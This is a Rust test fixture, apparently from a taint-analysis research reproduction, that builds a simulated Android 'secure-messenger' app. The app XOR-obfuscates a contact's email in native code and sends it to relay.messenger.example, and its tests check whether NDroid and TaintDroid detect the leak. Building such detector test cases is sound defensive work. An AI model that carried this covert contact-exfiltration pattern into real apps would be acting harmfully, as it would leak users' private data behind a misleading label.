//! A Communication-category app in the style §III-A observed: "apps in
//! the category of 'Communication' often employ native code to hide
//! communication protocols or encrypt data."
//!
//! The native code XOR-"encrypts" the contact record before sending —
//! useless against dynamic taint analysis: explicit dataflow through
//! the cipher keeps the label (each output byte is EOR of a tainted
//! byte, Table V's binary-op rule), so NDroid flags the ciphertext at
//! the socket even though no plaintext ever reaches the sink.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::{Cond, Reg};
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Builds the protocol-hiding messenger app.
pub fn crypto_hider() -> App {
    let mut b = AppBuilder::new(
        "secure-messenger",
        "native XOR 'encryption' before exfiltration (Communication category)",
    );
    let c = b.class("Lcom/messenger/Crypto;");
    let dest = b.data_cstr("relay.messenger.example");
    let cipher_buf = b.data_buffer(128);

    // void sendEncrypted(String plaintext)
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0); // plaintext
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R7, Reg::R0); // len
    // XOR cipher: out[i] = in[i] ^ 0x5A (a "protocol obfuscation").
    b.asm.ldr_const(Reg::R5, cipher_buf);
    b.asm.mov_imm(Reg::R6, 0).unwrap(); // i
    let top = b.asm.here_label();
    b.asm.cmp(Reg::R6, Reg::R7);
    let done = b.asm.label();
    b.asm.b_cond(Cond::Eq, done);
    b.asm.ldrb_reg(Reg::R0, Reg::R4, Reg::R6);
    b.asm.eor_imm(Reg::R0, Reg::R0, 0x5A).unwrap();
    b.asm.strb_reg(Reg::R0, Reg::R5, Reg::R6);
    b.asm.add_imm(Reg::R6, Reg::R6, 1).unwrap();
    b.asm.b(top);
    b.asm.bind(done).unwrap();
    // fd = socket(); connect; send(fd, ciphertext, len, 0)
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R6, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R6);
    b.asm.mov(Reg::R1, Reg::R5);
    b.asm.mov(Reg::R2, Reg::R7);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "sendEncrypted", "VL", true, entry);

    let contact = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryEmail")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: contact,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    let mut app = b.finish("Lcom/messenger/Crypto;", "main").unwrap();
    app.lib_name = "libmsgcrypt.so".to_string();
    app
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn ciphertext_is_still_tainted() {
        let sys = crypto_hider().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1, "encryption does not launder explicit flows");
        assert!(leaks[0].taint.contains(Taint::CONTACTS));
        assert_eq!(leaks[0].dest, "relay.messenger.example");
        // The wire data really is ciphertext, not the plaintext email.
        let wire = &sys.report().network_log[0].1;
        assert_ne!(**wire, *b"cx@gg.com");
        let decrypted: Vec<u8> = wire.iter().map(|b| b ^ 0x5A).collect();
        assert_eq!(decrypted, b"cx@gg.com");
    }

    #[test]
    fn taintdroid_sees_neither_plaintext_nor_label() {
        let sys = crypto_hider().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.report().network_log.len(), 1);
    }

    #[test]
    fn per_byte_xor_went_through_the_tracer() {
        let sys = crypto_hider().run(Mode::NDroid).unwrap();
        let stats = sys.ndroid_stats().unwrap();
        // 9 plaintext bytes x ~6 instructions per loop iteration.
        assert!(stats.insns_traced > 50, "{}", stats.insns_traced);
    }
}
